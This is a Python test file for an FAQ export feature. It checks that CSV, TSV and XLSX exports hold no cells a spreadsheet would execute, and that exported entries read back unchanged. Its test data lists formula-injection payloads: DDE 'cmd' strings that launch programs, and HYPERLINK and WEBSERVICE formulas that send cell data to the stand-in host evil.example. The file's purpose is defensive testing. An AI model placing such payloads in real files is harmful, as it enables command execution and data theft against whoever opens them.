"""What is exported runs in no spreadsheet, and comes back as the same words."""

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

import pytest

import web
from faq import exchange, guard, writing
from faq.guard import delimited
from faq.kinds import KINDS
from tests.faq.staff_files import ENTRY
from tests.promises.length import FULL
from tests.promises.spreadsheets import formulas, run_by_libreoffice
from web.sheets import as_csv, as_workbook

BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", "''@")
BEGINNINGS += ("\x00=", "\x0b=", "\u200b=", "\ufeff=")
REST = (
    *("1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)*cmd|' /C x'!A0"),
    'HYPERLINK("http://evil.example?"&A1,"見る")',
    'WEBSERVICE("http://evil.example")',
)
CELLS = tuple(beginning + rest for beginning in BEGINNINGS for rest in REST)
PARTED = ("x;=1+1", "x\t=1+1", 'x";=1+1', 'x",=1+1;"=2', "x\r\n=1+1", ";=1+1", ' ";=1+1')
ALL = CELLS + PARTED
WRITERS = re.compile(r"csv\.writer\(|DictWriter\(|to_csv\(")


def written(folder: Path) -> list[Path]:
    """Files of all cells by each of the ways out."""
    rows = [["見出し", "もう一つ"], *([cell, cell] for cell in ALL)]
    in_xml = [[cell.replace("\x00", "").replace("\x0b", "") for cell in row] for row in rows]
    (folder / "sheet.csv").write_bytes(as_csv(rows))
    (folder / "sheet.xlsx").write_bytes(as_workbook("見出し", in_xml))
    for name, delimiter in (("lines.csv", ","), ("tabs.tsv", "\t")):
        writing.write_delimited(folder / name, iter(rows), delimiter)
    return sorted(folder.iterdir())


def test_no_cell_runs(tmp_path):
    assert {file.name: found for file in written(tmp_path) if (found := formulas(file))} == {}


def test_cells_without_their_guard_are_noticed(tmp_path, monkeypatch):
    monkeypatch.setattr(guard, "guarded", lambda text: text)
    files = {file.name: len(formulas(file)) for file in written(tmp_path)}
    assert min(files["sheet.csv"], files["lines.csv"], files["tabs.tsv"]) >= len(CELLS)


def test_cells_without_their_quotes_are_noticed(tmp_path, monkeypatch):
    """As Python's own writer leaves them: a semicolon begins another cell."""
    text = io.StringIO(newline="")
    csv.writer(text).writerows([[guard.guarded(cell)] for cell in ALL])
    (tmp_path / "bare.csv").write_text(text.getvalue(), newline="")
    assert len(formulas(tmp_path / "bare.csv")) >= 2


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_every_line_is_read_as_it_was_written(delimiter):
    lines = [*([cell, "x", cell] for cell in ALL), [""], ["", ""], ['"'], [" x ", "é"]]
    text = "".join(delimited(line, delimiter) for line in lines)
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))
    assert [[guard.unguarded(cell) for cell in line] for line in read] == lines


@pytest.mark.parametrize("ending", ["csv", "tsv", "json", "xlsx"])
def test_what_was_exported_comes_back_as_the_same_words(tmp_path, ending):
    """Words that a cell of the knowledge may hold: no control characters, no blanks at the ends."""
    words = [cell for cell in ALL if cell.isprintable() and cell == cell.strip()]
    entries = [
        replace(ENTRY, id=f"e-{n}", question=f"{word} {n}", answer=word, phrasings=())
        for n, word in enumerate(words)
    ]
    made = writing.write(KINDS["faq"], entries, tmp_path / f"faq.{ending}")
    assert isinstance(made, writing.Written)
    read = exchange.read(KINDS["faq"], tmp_path / f"faq.{ending}")
    assert isinstance(read, exchange.Records), read
    assert list(read.records) == entries


def test_there_is_one_way_out():
    """No file of cells is written past the guard."""
    root = Path(web.__file__).parent.parent
    rooms = [root / room for room in ("bot", "web", "handlers", "store", "faq")]
    code = [file.name for room in rooms for file in room.rglob("*.py") if WRITERS.search(file.read_text())]
    assert code == []


if FULL:  # LibreOffice is large: it is asked in the long form alone

    def test_libreoffice_runs_nothing(tmp_path):
        files = [file for file in written(tmp_path) if file.suffix in (".csv", ".tsv")]
        text = io.StringIO(newline="")
        csv.writer(text).writerows([[cell] for cell in ALL])
        (tmp_path / "bare.csv").write_text(text.getvalue(), newline="")
        found = run_by_libreoffice([*files, tmp_path / "bare.csv"], tmp_path)
        assert len(found.pop("bare.xlsx")) >= 10, "it would run what is not guarded"
        assert len(found) >= 2
        assert {name: cells for name, cells in found.items() if cells} == {}
